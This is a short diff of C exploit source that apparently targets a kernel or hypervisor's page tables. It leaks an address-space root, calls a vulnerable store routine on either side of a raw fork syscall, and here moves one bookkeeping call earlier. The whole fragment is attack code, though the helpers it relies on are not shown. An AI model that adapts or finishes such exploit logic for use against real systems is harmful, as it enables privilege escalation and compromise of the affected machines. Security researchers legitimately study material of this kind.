@@ -21,9 +21,10 @@ int main(void)
 	nr_pages = attack_list_pages(&leak, leak.root_first, pages, PAGES_MAX);
 	attack_say("the root of this address space is 0x%lx, for one fork 0x%lx", leak.root,
 		   leak.root_first);
+	/* first what the frame table says of the tables: that is what they are held against */
+	attack_note_root(&leak, pages, nr_pages, leak.root);
 	/* nothing between may touch a page that is not there yet */
 	attack_check("vuln_store", bw_vuln_store(leak.as_root, leak.root_first, ROOT_BYTES));
-	attack_note_root(&leak, pages, nr_pages, leak.root);
 	child = raw_call(SYS_fork, no_arguments);
 	attack_note_root(&leak, pages, nr_pages, leak.root_first);
 	bw_vuln_store(leak.as_root, leak.root, ROOT_BYTES);
